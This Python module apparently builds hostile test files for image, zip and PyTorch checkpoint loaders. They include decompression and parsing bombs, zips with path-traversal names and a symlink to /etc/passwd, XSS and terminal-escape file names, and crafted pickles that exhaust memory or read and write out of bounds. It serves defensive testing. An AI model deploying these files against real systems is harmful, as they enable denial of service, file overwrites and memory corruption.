"""Small files that take hours, or all memory, of who opens them without care, or reach into it."""

from __future__ import annotations

import io
import pickle
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable

import torch
from PIL import Image, ImageDraw

# --- pictures ----------------------------------------------------------------------------------


def small_picture(kind: str, size: int = 20) -> bytes:
    """Return the file of a harmless picture, a dark bar on light paper."""
    picture = Image.new("RGB", (size, size), "white")
    ImageDraw.Draw(picture).line([(size // 2, 3), (size // 2, size - 4)], "black", 3)
    buffer = io.BytesIO()
    picture.save(buffer, kind)
    return buffer.getvalue()


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_that_claims(width: int, height: int) -> bytes:
    """Return a PNG that claims to be this large; its pixels are all missing."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    chunks = [(b"IHDR", header), (b"IDAT", zlib.compress(b"")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*chunk) for chunk in chunks)


def jpeg_of_many_pieces() -> bytes:
    """Two million segments, each of which is added to all those before."""
    content = small_picture("JPEG")
    piece = b"\xff\xe1" + struct.pack(">H", 9) + b"Exif\0\0x"
    return content[:2] + piece * 1_800_000 + content[2:]


def jpeg_of_many_scans() -> bytes:
    """Four megapixels that are gone through a hundred thousand times."""
    buffer = io.BytesIO()
    Image.new("L", (2_000, 2_000), 200).save(buffer, "JPEG", progressive=True)
    content = buffer.getvalue()
    last = content[content.rfind(b"\xff\xda") : -2]
    return content[:-2] + last * 100_000 + content[-2:]


def gif_of_much_comment() -> bytes:
    """A comment of nine million pieces, each of which is added to all those before."""
    content = small_picture("GIF")
    palette = 3 * 2 ** ((content[10] & 7) + 1) if content[10] & 128 else 0
    start = 13 + palette
    return content[:start] + b"!\xfe" + b"\1x" * 9_000_000 + b"\0" + content[start:]


def tiff_of_many_tags() -> bytes:
    """A thousand tags, each of which holds the same nineteen megabytes."""
    size, kind = 19_000_000, {"short": 3, "long": 4, "bytes": 7}
    usual = [
        *((tag, "long", 9) for tag in (256, 257, 278)),  # width, height, rows in a strip
        (258, "short", 8),  # bits a pixel
        *((tag, "short", 1) for tag in (259, 262, 277)),  # no compression, black is 0, grey
        (273, "long", 8),  # where the pixels begin
        (279, "long", 81),  # and how many bytes they are
    ]
    entries = [struct.pack("<HHII", tag, kind[form], 1, value) for tag, form, value in usual]
    entries.sort()
    entries += [struct.pack("<HHII", tag, 7, size, 8) for tag in range(40_000, 41_000)]
    directory = struct.pack("<H", len(entries)) + b"".join(entries) + bytes(4)
    return b"II*\0" + struct.pack("<I", 8 + size) + bytes(size) + directory


def png_of_much_text() -> bytes:
    """A hundred texts of ten megabytes, each packed into a thousandth of that."""
    content = small_picture("PNG")
    text = png_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(10**7), 9))
    end_of_header = 33
    return content[:end_of_header] + text * 100 + content[end_of_header:]


PICTURE_BOMBS: dict[str, Callable[[], bytes]] = {
    "a JPEG of many pieces": jpeg_of_many_pieces,
    "a JPEG of many scans": jpeg_of_many_scans,
    "a GIF of much comment": gif_of_much_comment,
    "a TIFF of many tags": tiff_of_many_tags,
    "a PNG of much text": png_of_much_text,
}


# --- zip files of pictures -----------------------------------------------------------------------


def zip_of(entries: Iterable[tuple[str | zipfile.ZipInfo, bytes | str]]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry, content in entries:
            archive.writestr(entry, content)
    return made.getvalue()


def few_pictures(**others: bytes) -> dict[str, bytes]:
    """Return ten small pictures of each of two classes, and other files."""
    names = [f"{folder}/{number}.png" for folder in ("cats", "dogs") for number in range(10)]
    return {**dict.fromkeys(names, small_picture("PNG")), **others}


def zip_of_zeros() -> bytes:
    """Hundreds of megabytes of nothing, packed into a thousandth of that."""
    zeros = {f"cats/{number}.bmp": bytes(15_000_000) for number in range(20)}
    return zip_of(few_pictures(**zeros).items())


def zip_of_many_entries() -> bytes:
    """A list of two hundred thousand files that are one."""
    content = zip_of(few_pictures().items())
    listed, end = content.index(b"PK\1\2"), content.index(b"PK\5\6")
    entry = content[listed : content.index(b"PK\1\2", listed + 4)]
    entries = entry * 200_000
    where = struct.pack("<HHIIH", 0xFFFF, 0xFFFF, len(entries), listed, 0)
    return content[:listed] + entries + content[end : end + 8] + where


def zip_of_tiny_files() -> bytes:
    """Sixty thousand files of one byte."""
    return zip_of((f"cats/{number}", b"x") for number in range(60_000))


def zip_that_leaves() -> bytes:
    """Names that point elsewhere, and links to what is there."""
    link = zipfile.ZipInfo("cats/link.png")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    elsewhere: list[tuple[str | zipfile.ZipInfo, bytes | str]] = [
        *((name, b"x") for name in ("../../app.py", "/etc/cron.d/x", "..\\..\\app.py", "C:/x.png")),
        (link, "/etc/passwd"),
    ]
    return zip_of([*few_pictures().items(), *elsewhere])


def zip_of_bombs() -> bytes:
    """Pictures that would take hours, or all memory, among good ones."""
    bombs = {f"cats/{make.__name__}": make() for make in (jpeg_of_many_scans, png_of_much_text)}
    bombs["dogs/claims.png"] = png_that_claims(50_000, 50_000)
    return zip_of(few_pictures(**bombs).items())


def zip_with_markup() -> bytes:
    """Names that a page could take for markup, and a console for colours."""
    names = ("<img src=x onerror=alert(1)>", '\x1b[31m"><script>alert(1)</script>')
    markup = {f"cats/{name}.png": b"no picture" for name in names}
    return zip_of(few_pictures(**markup).items())


ZIP_BOMBS: dict[str, Callable[[], bytes]] = {
    "zeros": zip_of_zeros,
    "many entries": zip_of_many_entries,
    "tiny files": zip_of_tiny_files,
    "names that leave": zip_that_leaves,
    "bombs": zip_of_bombs,
    "markup": zip_with_markup,
}


# --- checkpoints -------------------------------------------------------------------------------

ORDERED_DICT = b"ccollections\nOrderedDict\n)R"  # an empty one, as a pickle makes it


def checkpoint_of(pickled: bytes, **entries: bytes) -> bytes:
    """Return a checkpoint with this pickle in it, and other entries beside it."""
    buffer, made = io.BytesIO(), io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(buffer) as plain, zipfile.ZipFile(made, "w") as archive:
        for name in plain.namelist():
            archive.writestr(name, pickled if name.endswith("data.pkl") else plain.read(name))
        for name, content in entries.items():
            archive.writestr(f"archive/{name}", content)
    return made.getvalue()


def checkpoint_of_empty_gigabytes() -> bytes:
    """A few bytes of pickle that ask for sixty gigabytes of zeros."""
    length = (60 * 10**9).to_bytes(6, "little")
    return checkpoint_of(b"\x80\x02c__builtin__\nbytearray\n\x8a\x06" + length + b"\x85R.")


def checkpoint_of_tuples() -> bytes:
    """A key of two tuples of two tuples of two tuples ..., sixty deep: it takes years to hash."""
    pickled = b"\x80\x02})q\x00"
    for depth in range(60):
        pickled += b"h" + bytes([depth]) + b"\x86q" + bytes([depth + 1])
    return checkpoint_of(pickled + b"K\x01s.")


def checkpoint_that_is_packed() -> bytes:
    """Weights of 256 megabytes, all zero, packed into a thousandth of that."""
    buffer, made = io.BytesIO(), io.BytesIO()
    torch.save({"weight": torch.zeros(1)}, buffer)
    with (
        zipfile.ZipFile(buffer) as plain,
        zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive,
    ):
        for name in plain.namelist():
            archive.writestr(name, bytes(2**28) if name.endswith("data/0") else plain.read(name))
    return made.getvalue()


def checkpoint_of_many_entries() -> bytes:
    """An archive that lists two hundred thousand files."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("archive/data.pkl", b"\x80\x02}.")
    content = made.getvalue()
    listed = content.index(b"PK\x01\x02")
    end = content.index(b"PK\x05\x06")
    entries = content[listed:end] * 200_000
    where = struct.pack("<HHIIH", 0xFFFF, 0xFFFF, len(entries), listed, 0)
    return content[:listed] + entries + content[end : end + 8] + where


def storage_pickle(elements: int, offset: int = 0, size: int = 1, stride: int = 1) -> bytes:
    """Return the pickle of a tensor in the storage "0", each number of it as it is told."""
    numbers = [pickle.dumps(number, 2)[2:-1] for number in (elements, offset, size, stride)]
    claimed, first, length, step = numbers
    identity = b"(X\7\0\0\0storagectorch\nFloatStorage\nX\1\0\0\x000X\3\0\0\0cpu%btQ" % claimed
    where = b"%b%b\x85%b\x85" % (first, length, step)
    return b"ctorch._utils\n_rebuild_tensor_v2\n(%b%b\x89%btR" % (identity, where, ORDERED_DICT)


def checkpoint_with(tensor: bytes, **entries: bytes) -> bytes:
    """Return a checkpoint of this one tensor, which has the entries that are named beside it."""
    return checkpoint_of(b"\x80\2}(X\1\0\0\0w%bu." % tensor, **entries)


def checkpoint_that_reads_the_heap() -> bytes:
    """A megabyte of weights, of which four bytes are in the file (CVE-2026-24747)."""
    return checkpoint_with(storage_pickle(250_000, size=250_000), **{"data/0": bytes(4)})


def checkpoint_that_reads_beyond() -> bytes:
    """A storage as it should be, and a tensor that begins a megabyte behind its end."""
    return checkpoint_with(storage_pickle(1, offset=250_000), **{"data/0": bytes(4)})


def checkpoint_that_writes() -> bytes:
    """A tensor in the place of a dict: its thousandth number is set (CVE-2026-24747)."""
    pickled = b"\x80\2" + storage_pickle(1) + b"M\xe8\3G" + bytes(8) + b"s."
    return checkpoint_of(pickled, **{"data/0": bytes(4)})


CHECKPOINT_BOMBS: dict[str, Callable[[], bytes]] = {
    "sixty gigabytes of zeros": checkpoint_of_empty_gigabytes,
    "tuples of tuples": checkpoint_of_tuples,
    "a packed archive": checkpoint_that_is_packed,
    "an archive of many entries": checkpoint_of_many_entries,
    "a storage longer than its entry": checkpoint_that_reads_the_heap,
    "a tensor beyond its storage": checkpoint_that_reads_beyond,
    "an item set on a tensor": checkpoint_that_writes,
}
